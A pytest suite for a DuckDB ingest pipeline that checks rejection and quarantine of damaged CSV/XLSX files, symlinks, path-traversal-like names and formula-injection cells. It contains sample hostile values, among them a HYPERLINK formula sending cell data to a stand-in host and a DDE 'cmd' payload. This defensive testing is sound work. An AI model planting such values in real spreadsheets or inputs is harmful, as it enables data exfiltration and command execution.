"""Hostile inputs (issue 10), made here byte by byte and ingested for real (DuckDB in memory) on top of the
submissions of tests/fixtures/ingest/landing: each gets a clear file rejection or a per-row quarantine with
a reason code, rows read = loaded + quarantined, and nothing that was in the warehouse changes. Also the
landing tree itself (symbolic links, odd and undecodable names) through the ingest, the sensor and
`proasn check`, and formula-like cells from the extract to every file the project writes."""

import csv
import errno
import io
import json
import os
import shutil
from pathlib import Path

import duckdb
import pytest
from python_calamine import CalamineWorkbook

from assets.sensors import landing_run_request, scan_submissions
from pipelines import ingest as ingest_module
from pipelines import reading as reading_module
from pipelines.contract import ENTITY_NAMES, REASONS
from pipelines.exports import quality_table
from pipelines.ingest import ingest_landing, scratch_connection
from pipelines.paket import Table, write_pack
from tests.helpers import (
    FIXTURES,
    PEGAWAI_HEADER,
    TODAY,
    assert_rows_conserved,
    ledger,
    settings_for,
    write_xlsx,
)
from tools.cli import main
from tools.commands import _run_query

HEADER = ",".join(PEGAWAI_HEADER)


def person(nip: str, nama: str = "Budi Santoso", jabatan: str = "Staf") -> list[str]:
    return [nip, nama, "L", "1980-03-15", "PNS", "III/d", "PELAKSANA", "", jabatan, "S1"]


def csv_row(values: list[str]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="").writerow(values)
    return out.getvalue()


GOOD = [csv_row(person(f"1980031520050110{i:02d}")) for i in range(1, 4)]


def snapshot(con, leave_out: set[str] = frozenset()) -> dict:
    """Every table the ingest writes (load times left out), without the rows of the files `leave_out`."""
    tables = {f"{schema}.{e}": "_file_path" for schema in ("raw", "quarantine") for e in ENTITY_NAMES}
    tables |= {"ingest.peringatan": "file_path", "ingest.ledger": "file_path"}
    out = {}
    for table, path_column in tables.items():
        skip = {"_file_path": "exclude (_loaded_at)", "file_path": ""}[path_column]
        if table == "ingest.ledger":
            skip = "exclude (loaded_at)"
        out[table] = con.execute(
            f"select * {skip} from {table} where not list_contains(?, {path_column}) order by all",
            [sorted(leave_out)],
        ).fetchall()
    return out


@pytest.fixture
def warehouse(tmp_path):
    """The fixture submissions loaded: (landing, connection, every table before the hostile files)."""
    landing = tmp_path / "landing"
    shutil.copytree(FIXTURES / "ingest" / "landing", landing)
    con = duckdb.connect()
    ingest_landing(con, landing, TODAY)
    yield landing, con, snapshot(con)
    con.close()


def ingest_more(warehouse, files: dict[str, bytes] | None = None) -> dict[str, tuple]:
    """Write `files` (path under the landing root -> bytes), ingest again, check that rows are conserved
    and that nothing else in the warehouse changed; returns the new ledger rows by path."""
    landing, con, before = warehouse
    for rel, data in (files or {}).items():
        (landing / rel).parent.mkdir(parents=True, exist_ok=True)
        (landing / rel).write_bytes(data)
    outcomes = ingest_landing(con, landing, TODAY)
    new = {o.file.rel_path for o in outcomes}
    assert snapshot(con, leave_out=new) == before, "only the new files' rows were added"
    assert_rows_conserved(con, landing)
    rows = ledger(con)
    return {path: rows[path] for path in new}


def quarantined(con, path: str) -> list[tuple]:
    return con.execute(
        "select _line, _reasons from quarantine.pegawai where _file_path = ? order by 1", [path]
    ).fetchall()


def loaded_lines(con, path: str) -> list[int]:
    return [r[0] for r in con.execute("select _line from raw.pegawai where _file_path = ? order by 1", [path])
            .fetchall()]  # fmt: skip


# --- damaged files ---------------------------------------------------------------------------------
def test_empty_truncated_mixed_line_endings_and_wide_rows(warehouse):
    _, con, _ = warehouse
    head = HEADER + "\r\n"
    files = {
        "3301/2026-10-01/pegawai.csv": b"",
        # cut mid-row, no trailing newline: the last record has fewer values than the header
        "3302/2026-10-01/pegawai.csv": (head + GOOD[0] + "\r\n" + GOOD[1] + "\r\n" + GOOD[2][:30]).encode(),
        # cut inside a quoted field: the quote never closes
        "3303/2026-10-01/pegawai.csv": (
            head + GOOD[0] + "\r\n" + '198003152005011002,"Budi\r\nSant'
        ).encode(),
        # \n, \r\n and a lone \r in one file: each ends a record
        "3304/2026-10-01/pegawai.csv": (HEADER + "\n" + GOOD[0] + "\r\n" + GOOD[1] + "\r" + GOOD[2]).encode(),
        # a row with 5,000 values more than the header, between good rows
        "3305/2026-10-01/pegawai.csv": (
            head + GOOD[0] + "\r\n" + GOOD[1] + "," + ",".join(["x"] * 5000) + "\r\n" + GOOD[2] + "\r\n"
        ).encode(),
        # one cell of 5 MB
        "3306/2026-10-01/pegawai.csv": (
            head + GOOD[0] + "\r\n" + csv_row(person("198003152005011002", "B" * 5_000_000)) + "\r\n"
        ).encode(),
    }
    rows = ingest_more(warehouse, files)
    status = {path: (row[0], row[1]) for path, row in rows.items()}
    assert status["3301/2026-10-01/pegawai.csv"] == ("DITOLAK", {"BERKAS_TIDAK_TERBACA": 1})
    assert "berkas kosong" in rows["3301/2026-10-01/pegawai.csv"][2]

    truncated = "3302/2026-10-01/pegawai.csv"
    assert status[truncated][0] == "DIMUAT"
    assert loaded_lines(con, truncated) == [2, 3]
    ((line, reasons),) = quarantined(con, truncated)
    assert line == 4 and "KOLOM_KURANG:" in reasons

    in_quote = rows["3303/2026-10-01/pegawai.csv"]  # DuckDB would read the rest of the file into one cell
    assert in_quote[:2] == ("DITOLAK", {"BERKAS_TIDAK_TERBACA": 1})
    assert 'tanda kutip ganda (") dibuka tetapi tidak pernah ditutup (baris 3)' in in_quote[2]

    mixed = "3304/2026-10-01/pegawai.csv"
    assert status[mixed] == ("DIMUAT", {})
    assert con.execute(
        "select nip from raw.pegawai where _file_path = ? order by _line", [mixed]
    ).fetchall() == [(f"1980031520050110{i:02d}",) for i in range(1, 4)], "no character lost after a lone \\r"

    wide = "3305/2026-10-01/pegawai.csv"
    assert loaded_lines(con, wide) == [2, 4]
    assert quarantined(con, wide) == [(3, ["KOLOM_BERLEBIH:"])]

    huge = rows["3306/2026-10-01/pegawai.csv"]
    assert huge[:2] == ("DITOLAK", {"BATAS_BACA_TERLAMPAUI": 1})
    assert "ada baris lebih panjang dari 2 MB (baris 3)" in huge[2]

    for status_, reasons, message in rows.values():
        code = next(iter(reasons), None)
        if status_ == "DITOLAK":
            assert message.startswith(f"[{code}] {REASONS[code].pesan}"), message
            assert len(message) < 600, "one short message, never the file's contents"


def multiline_pegawai(end: str, delimiter: str = ",") -> str:
    """Header (line 1), a good row whose nama_jabatan spans lines 2-4, a row quarantined for its NIP on
    line 5, a good row whose nama spans lines 6-7 and a good row on line 8 (lines ended by `end`)."""
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator=end).writerows([
        PEGAWAI_HEADER,
        person("198003152005011001", jabatan=f"Kepala{end}Subbagian{end}Umum"),
        person("1980"),
        person("198003152005011002", nama=f"Sri{end}Rahayu"),
        person("198003152005011003"),
    ])  # fmt: skip
    return out.getvalue()


def test_line_numbers_are_physical_lines_when_quoted_values_hold_line_breaks(warehouse):
    """`_line` is the line an editor shows a record starting on, in the file as the agency wrote it, also
    when the file is read from a rewritten copy (Windows-1252, lone \\r line ends)."""
    _, con, _ = warehouse
    plain = HEADER + "\n" + GOOD[0] + "\n" + csv_row(person("1980")) + "\n"
    windows_1252 = multiline_pegawai("\r\n", ";").replace("Umum", "“Umum”").encode("cp1252")
    files = {
        "3301/2026-10-01/pegawai.csv": multiline_pegawai("\r\n").encode(),
        "3302/2026-10-01/pegawai.csv": plain.encode(),  # read with 3301 (same layout): record numbers
        "3303/2026-10-01/pegawai.csv": windows_1252,  # read from a UTF-8 copy
        # lone \r line ends: read from a rewritten copy
        "3304/2026-10-01/pegawai.csv": multiline_pegawai("\r").encode(),
        # a lone \r inside a value of a file ended by \n: a line end too
        "3305/2026-10-01/pegawai.csv": multiline_pegawai("\n").replace("Sri\nRahayu", "Sri\rRahayu").encode(),
    }
    rows = ingest_more(warehouse, files)
    for path in ("3301", "3303", "3304", "3305"):
        path = f"{path}/2026-10-01/pegawai.csv"
        assert rows[path][:2] == ("DIMUAT", {"NIP_TIDAK_VALID": 1}), path
        assert loaded_lines(con, path) == [2, 6, 8], path
        assert quarantined(con, path) == [(5, ["NIP_TIDAK_VALID:nip"])], path
    assert con.execute("select nama_jabatan from raw.pegawai where _file_path = ? and _line = 2",
                       ["3303/2026-10-01/pegawai.csv"]).fetchall() == [("Kepala\r\nSubbagian\r\n“Umum”",)]  # fmt: skip
    assert loaded_lines(con, "3302/2026-10-01/pegawai.csv") == [2]
    assert quarantined(con, "3302/2026-10-01/pegawai.csv") == [(3, ["NIP_TIDAK_VALID:nip"])]


def test_only_files_with_a_line_break_in_a_quoted_value_are_mapped(tmp_path):
    """_detect_encoding's signal (a line with an odd number of quotes), also across its 1 MB blocks."""
    every_value_quoted = "\r\n".join(
        ",".join(f'"{v}"' for v in row) for row in [PEGAWAI_HEADER, *(person(f"{i:018d}") for i in range(3))]
    )
    filler = (GOOD[0] + "\n") * 10_000
    # then a line that ends 10 bytes before the end of the first block
    filler += "x" * ((1 << 20) - 10 - len(filler) - 1) + "\n"
    cases = {
        "no quotes": (HEADER + "\n" + "\n".join(GOOD) + "\n", False),
        "every value quoted": (every_value_quoted, False),
        "doubled quotes": (HEADER + "\n" + csv_row(person("1", nama='Budi "Bud" Santoso')) + "\n", False),
        "quoted line break": (multiline_pegawai("\n"), True),
        "lone \\r in quotes": (multiline_pegawai("\r"), True),
        # a quoted value that opens just before the first block's end, and closes after it
        "quoted across blocks": (filler + '1,"a' + "b" * 64 + '",x\n' + GOOD[1] + "\n", False),
        "line break across blocks": (filler + '1,"a' + "b" * 64 + '\nc",x\n' + GOOD[1] + "\n", True),
    }
    for name, (text, quoted_break) in cases.items():
        path = tmp_path / "pegawai.csv"
        path.write_bytes(text.encode())
        assert reading_module._detect_encoding(path).quoted_break is quoted_break, name


# --- the landing tree itself -----------------------------------------------------------------------
def test_symbolic_links_are_rejected_and_never_followed(warehouse, tmp_path, capsys):
    landing, con, _ = warehouse
    outside = tmp_path / "outside"
    outside.mkdir()
    secret = "199912312020121009"
    (outside / "pegawai.csv").write_text(HEADER + "\n" + csv_row(person(secret, "Orang Luar")) + "\n")
    (landing / "3301" / "2026-10-01").mkdir(parents=True)
    (landing / "3301" / "2026-10-01" / "pegawai.csv").symlink_to(outside / "pegawai.csv")  # a file outside
    (landing / "3301" / "2026-10-01" / "skp.csv").symlink_to(tmp_path / "nowhere.csv")  # dangling
    (landing / "3302").mkdir()
    (landing / "3302" / "2026-10-01").symlink_to(outside, target_is_directory=True)  # a folder outside
    (landing / "3303" / "2026-10-01").mkdir(parents=True)
    loop = landing / "3303" / "2026-10-01" / "pegawai.csv"
    loop.symlink_to(loop)  # a link to itself
    (landing / "3304").symlink_to(landing, target_is_directory=True)  # a folder loop: the landing root

    rows = ingest_more(warehouse)
    links = ["3301/2026-10-01/pegawai.csv", "3301/2026-10-01/skp.csv", "3302/2026-10-01",
             "3303/2026-10-01/pegawai.csv", "3304"]  # fmt: skip
    assert sorted(rows) == links
    for path in links:
        assert rows[path][:2] == ("DITOLAK", {"TAUTAN_SIMBOLIK": 1}), path
        assert rows[path][2].startswith("[TAUTAN_SIMBOLIK] Tautan simbolik"), rows[path][2]
    everything = json.dumps(snapshot(con), default=str)
    assert secret not in everything and "Orang Luar" not in everything, "nothing behind a link was read"
    assert ingest_landing(con, landing, TODAY) == [], "recorded once"

    # The sensor does not follow linked folders, but a link in a real submission counts as its content.
    submissions = {s.folder for s in scan_submissions(landing, 0)}
    assert {"3301/2026-10-01", "3303/2026-10-01"} <= submissions
    assert not any(s.startswith(("3302/", "3304/")) for s in submissions)
    request, _ = landing_run_request(settings_for(landing, tmp_path), None)
    assert request is not None

    assert main(["check", str(landing)]) == 1
    out = capsys.readouterr().out
    assert "3302/2026-10-01: DITOLAK" in out and "[TAUTAN_SIMBOLIK]" in out
    assert secret not in out


def test_a_file_that_cannot_be_opened_is_named_and_tried_again(warehouse, monkeypatch, capsys):
    landing, con, before = warehouse
    rel = "3301/2026-10-01/pegawai.csv"
    path = landing / rel
    path.parent.mkdir(parents=True)
    path.write_text(HEADER + "\n" + "\n".join(GOOD) + "\n")
    path.chmod(0)
    if os.access(path, os.R_OK):  # root reads whatever the mode: the error the OS gives everyone else
        real_sha256_of = ingest_module.sha256_of

        def denied(p):
            if p == path and path.stat().st_mode & 0o444 == 0:
                raise PermissionError(errno.EACCES, "Permission denied", str(p))
            return real_sha256_of(p)

        monkeypatch.setattr(ingest_module, "sha256_of", denied)

    (outcome,) = ingest_landing(con, landing, TODAY)
    assert (outcome.file.rel_path, outcome.status, outcome.reasons, outcome.recorded) == (
        rel, "DITOLAK", {"BERKAS_TIDAK_TERBACA": 1}, False)  # fmt: skip
    assert "[BERKAS_TIDAK_TERBACA]" in outcome.message and "izin baca ditolak" in outcome.message
    assert snapshot(con) == before, "no ledger row: the ledger keys files by their bytes"
    assert main(["check", str(path.parent)]) == 1
    out = capsys.readouterr().out
    assert f"{rel}: DITOLAK" in out and "izin baca ditolak" in out

    path.chmod(0o644)
    (outcome,) = ingest_landing(con, landing, TODAY)
    assert (outcome.status, outcome.rows_loaded, outcome.recorded) == ("DIMUAT", 3, True)
    assert ledger(con)[rel][0] == "DIMUAT"


def test_a_file_removed_after_hashing_is_named_and_the_batch_loads(warehouse, monkeypatch):
    """An agency re-uploading while the ingest runs: the file is hashed, then gone when its batch reads it."""
    landing, con, before = warehouse
    data = HEADER + "\n" + "\n".join(GOOD) + "\n"
    gone, kept = "3301/2026-10-01/pegawai.csv", "3302/2026-10-01/pegawai.csv"
    for rel in (gone, kept):
        (landing / rel).parent.mkdir(parents=True)
        (landing / rel).write_text(data.replace("Budi", "Budi " + rel[:4]))
    real_detect_encoding = reading_module._detect_encoding

    def removed_first(path):
        if path == landing / gone:
            path.unlink()  # then the real read, which finds no file
        return real_detect_encoding(path)

    monkeypatch.setattr(reading_module, "_detect_encoding", removed_first)
    outcomes = {o.file.rel_path: o for o in ingest_landing(con, landing, TODAY)}
    assert (outcomes[gone].status, outcomes[gone].reasons, outcomes[gone].recorded) == (
        "DITOLAK", {"BERKAS_TIDAK_TERBACA": 1}, False)  # fmt: skip
    assert "berkas hilang saat dibaca" in outcomes[gone].message
    assert (outcomes[kept].status, outcomes[kept].rows_loaded) == ("DIMUAT", 3), "its batch still loads"
    assert gone not in ledger(con) and snapshot(con, leave_out={kept}) == before

    monkeypatch.undo()
    (landing / gone).write_text(data.replace("Budi", "Budi " + gone[:4]))  # the upload completes
    (outcome,) = ingest_landing(con, landing, TODAY)
    assert (outcome.file.rel_path, outcome.status, outcome.rows_loaded) == (gone, "DIMUAT", 3)


ODD_FOLDERS = ["..3373", "3373..", "...", "3373 ", "C:\\Windows", "..\\..\\etc"]


def test_odd_and_undecodable_names_are_rejected_without_crashing(warehouse, tmp_path, capsys):
    landing, con, _ = warehouse
    data = (HEADER + "\n" + GOOD[0] + "\n").encode()
    files = {f"{folder}/2026-10-01/pegawai.csv": data for folder in ODD_FOLDERS}
    files["3373/2026-10-02/\\etc\\passwd.csv"] = data  # an absolute-looking file name
    for rel, content in files.items():
        (landing / rel).parent.mkdir(parents=True, exist_ok=True)
        (landing / rel).write_bytes(content)
    # Names that are not UTF-8 (bytes 0xff) in a folder and a file, and a control character in a name.
    undecodable_folder = landing / os.fsdecode(b"33\xff3") / "2026-10-01"
    undecodable_folder.mkdir(parents=True)
    (undecodable_folder / "pegawai.csv").write_bytes(data)
    (landing / "3301" / "2026-10-01").mkdir(parents=True)
    (landing / "3301" / "2026-10-01" / os.fsdecode(b"pegawai\xff.csv")).write_bytes(data)
    (landing / "3302" / "2026-10-01").mkdir(parents=True)
    (landing / "3302" / "2026-10-01" / "pegawai\x1b[31m.csv").write_bytes(data)

    rows = ingest_more(warehouse)
    for folder in ODD_FOLDERS:
        assert rows[f"{folder}/2026-10-01/pegawai.csv"][:2] == ("DITOLAK", {"FOLDER_TIDAK_VALID": 1}), folder
    assert rows["3373/2026-10-02/\\etc\\passwd.csv"][:2] == ("DIABAIKAN", {"ENTITAS_TIDAK_DIKENAL": 1})
    for shown in ("33\\xff3/2026-10-01/pegawai.csv", "3301/2026-10-01/pegawai\\xff.csv",
                  "3302/2026-10-01/pegawai\\x1b[31m.csv"):  # fmt: skip
        assert rows[shown][:2] == ("DITOLAK", {"NAMA_BERKAS_TIDAK_VALID": 1}), shown
    # Only a folder of the form of an agency code names an agency (its pack and report page).
    agencies = dict(con.execute("select file_path, kode_instansi from ingest.ledger").fetchall())
    assert {agencies[f"{folder}/2026-10-01/pegawai.csv"] for folder in ODD_FOLDERS} == {None}
    assert agencies["3301/2026-10-01/pegawai\\xff.csv"] == "3301"
    assert con.execute("select count(*) from raw.pegawai where _file_path not like '3373/%' "
                       "and _file_path not like 'K016/%'").fetchall() == [(0,)]  # fmt: skip

    request, _ = landing_run_request(settings_for(landing, tmp_path), None)
    tags = json.dumps(request.tags, ensure_ascii=False).encode("utf-8")  # printable UTF-8: storable
    assert b"33\\\\xff3/2026-10-01" in tags
    assert request.run_config["resources"]["proasn"]["config"]["instansi"] == "", (
        "a folder that is not an agency code: the whole landing tree (unchanged files are skipped)"
    )

    assert main(["check", str(landing)]) == 1  # printing to a UTF-8 stream does not fail
    out = capsys.readouterr().out
    assert "33\\xff3/2026-10-01/pegawai.csv: DITOLAK" in out and "[NAMA_BERKAS_TIDAK_VALID]" in out
    assert "\x1b" not in out
    assert main(["check", str(landing), "--json"]) == 1
    report = json.loads(capsys.readouterr().out)
    assert {f["file_path"] for f in report["files"]} >= set(rows)


# --- formula-like cells ------------------------------------------------------------------------------
FORMULAS = {
    "198003152005011001": '=HYPERLINK("http://contoh.invalid/?q="&A1,"klik")',
    "198003152005011002": "@foo",
    "198003152005011003": "+62 812 0000",
    "198003152005011004": "-Budi",
}


def test_formula_like_cells_are_stored_as_given_and_escaped_in_every_file_written(
    warehouse, tmp_path, capsys
):
    landing, con, _ = warehouse
    rows = [person(nip, nama, jabatan="=1+2") for nip, nama in FORMULAS.items()]
    rows.append(person("=1+2", "=cmd|' /C calc'!A0"))  # quarantined: the NIP is not 18 digits
    text = HEADER + "\n" + "\n".join(csv_row(r) for r in rows) + "\n"
    write_xlsx(landing / "3302/2026-10-01/pegawai.xlsx", {"Sheet1": [PEGAWAI_HEADER, *rows]})
    new = ingest_more(warehouse, {"3301/2026-10-01/pegawai.csv": text.encode()})
    assert len(new) == 2
    for kode in ("3301", "3302"):
        stored = dict(
            con.execute("select nip, nama from raw.pegawai where _kode_instansi = ?", [kode]).fetchall()
        )
        assert stored == FORMULAS, "text exactly as given"
        assert con.execute("select distinct nama_jabatan from raw.pegawai where _kode_instansi = ?",
                           [kode]).fetchall() == [("=1+2",)]  # fmt: skip
        assert con.execute("select nip, nama, _reasons from quarantine.pegawai where _kode_instansi = ?",
                           [kode]).fetchall() == [("=1+2", "=cmd|' /C calc'!A0", ["NIP_TIDAK_VALID:nip"])]  # fmt: skip

    # Every CSV and spreadsheet the project writes: the agency pack (people, and the quarantine report)...
    columns, people = (
        ["nip", "nama", "nama_jabatan"],
        con.execute(
            "select nip, nama, nama_jabatan from raw.pegawai where _kode_instansi = '3301' order by nip"
        ).fetchall(),
    )
    (tmp_path / "exports").mkdir()
    pack = write_pack(tmp_path / "exports", "3301", [Table("rekomendasi_asn", columns, people),
                                                     quality_table(con, "3301")])  # fmt: skip
    with open(pack / "rekomendasi_asn.csv", encoding="utf-8-sig", newline="") as f:
        written = list(csv.DictReader(f))
    assert [r["nama"] for r in written] == ["'" + nama for nama in FORMULAS.values()]
    assert {r["nama_jabatan"] for r in written} == {"'=1+2"}
    with open(pack / "kualitas_data.csv", encoding="utf-8-sig", newline="") as f:
        (problem,) = list(csv.DictReader(f))
    assert (problem["nip"], problem["nilai"]) == ("'=1+2", "'=1+2")
    workbook = CalamineWorkbook.from_path(str(pack / "paket_3301.xlsx"))
    cells = {str(v) for name in workbook.sheet_names for row in workbook.get_sheet_by_name(name).to_python()
             for v in row}  # fmt: skip
    assert {"'" + nama for nama in FORMULAS.values()} | {"'=1+2"} <= cells
    assert not set(FORMULAS.values()) & cells and "=1+2" not in cells
    # ... and `proasn sql --csv` (text only: numbers stay numbers).
    _run_query(
        con, "select nama, -1 as angka from raw.pegawai where _kode_instansi = '3301' order by nip", True
    )
    out = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert out[1:] == [["'" + nama, "-1"] for nama in FORMULAS.values()]


# --- XLSX --------------------------------------------------------------------------------------------
def test_xlsx_reads_the_first_sheet_and_skips_an_empty_first_row(warehouse):
    landing, con, _ = warehouse
    first = [[None] * len(PEGAWAI_HEADER), PEGAWAI_HEADER, person("198003152005011001"), person("1980")]
    other = [PEGAWAI_HEADER, person("198003152005011002")]
    write_xlsx(landing / "3301/2026-10-01/pegawai.xlsx", {"Data": first, "Lampiran": other, "Catatan": []})
    write_xlsx(landing / "3302/2026-10-01/pegawai.xlsx", {"Kosong": [], "Data": other})
    rows = ingest_more(warehouse)
    path = "3301/2026-10-01/pegawai.xlsx"
    assert rows[path][:2] == ("DIMUAT", {"NIP_TIDAK_VALID": 1})
    assert "Hanya lembar kerja pertama yang dibaca; 2 lembar kerja lain diabaikan." in rows[path][2]
    assert loaded_lines(con, path) == [3], "the header is on Excel row 2; line numbers stay Excel's"
    assert quarantined(con, path) == [(4, ["NIP_TIDAK_VALID:nip"])]
    assert con.execute("select count(*) from raw.pegawai where nip = '198003152005011002'").fetchall() == [
        (0,)
    ]
    empty_first = rows["3302/2026-10-01/pegawai.xlsx"]
    assert empty_first[:2] == ("DITOLAK", {"BERKAS_TIDAK_TERBACA": 1})
    assert "lembar kerja pertama kosong" in empty_first[2]


def test_check_spills_to_a_private_folder_removed_afterwards():
    with scratch_connection() as con:
        spill = Path(con.execute("select current_setting('temp_directory')").fetchall()[0][0])
        assert spill.is_dir() and spill.stat().st_mode & 0o777 == 0o700
    assert not spill.exists()
